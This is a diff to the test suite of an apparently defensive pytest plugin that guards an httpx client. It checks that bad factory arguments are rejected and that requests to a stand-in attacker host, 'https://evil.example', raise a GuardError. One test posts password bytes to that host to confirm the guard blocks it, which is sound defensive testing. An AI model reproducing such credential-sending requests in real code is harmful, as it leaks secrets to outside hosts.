@@ -429,6 +429,11 @@ def test_wrong_mark_is_one_line(pytester: pytest.Pytester, run: Run, mark: str, 
         ('credentials="bearer"', ["credentials", "['bearer']"]),
         ('zone="user", credentials=()', ["zone or credentials, not both"]),
         ('user="third"', ["no 'third' in [users]"]),
+        ('base_url="https://evil.example"', ["base_url: https://evil.example is none of the profile's origins"]),
+        ('auth=("someone", "a password")', ["auth: ", "credentials=()"]),
+        ("transport=object()", ["transport: object would take the place of the API", "transport=lambda inner: "]),
+        ('mounts={"all://": None}', ["mounts: it would take the guard's place"]),
+        ('prox="http://proxy.example"', ["prox: no option of httpx.Client; did you mean proxy?"]),
     ],
 )
 def test_wrong_factory_argument_is_one_line(pytester: pytest.Pytester, run: Run, call: str, words: list[str]) -> None:
@@ -454,3 +459,37 @@ def test_fixtures_under_fault_and_variant(pytester: pytest.Pytester, run: Run) -
     """
 
     passes(pytester, run, source, "--apiauth-fault=zone-open")
+
+
+def test_options_of_the_library_work_offline_and_behind_the_guard(pytester: pytest.Pytester, run: Run) -> None:
+    """What shapes connections means nothing offline; a transport of one's own stands between two guards."""
+    source = """
+        import httpx
+        import pytest
+        from pytest_apiauth.errors import GuardError
+
+        class Retries(httpx.BaseTransport):
+            def __init__(self, inner):
+                self.inner = inner
+
+            def handle_request(self, request):
+                answer = self.inner.handle_request(request)
+                return answer if answer.status_code < 500 else self.inner.handle_request(request)
+
+        OPTIONS = {"proxy": "http://proxy.example:3128", "verify": "ca.pem", "transport": Retries}
+
+        def test_options(apiauth_client_factory, apiauth_server):
+            client = apiauth_client_factory(**OPTIONS)
+            apiauth_server.refuse_next(503)
+            assert client.get("/user/me").status_code == 200
+            with pytest.raises(GuardError):
+                client.get("https://evil.example/")
+
+        def test_own_auth(apiauth_client_factory):
+            client = apiauth_client_factory(credentials=(), auth=("someone", "a wrong password"))
+            assert client.get("/user/me").status_code == 401
+            with pytest.raises(GuardError):
+                client.post("https://evil.example/", content=iter([b"a wrong ", b"password"]), auth=None)
+    """
+
+    passes(pytester, run, source)
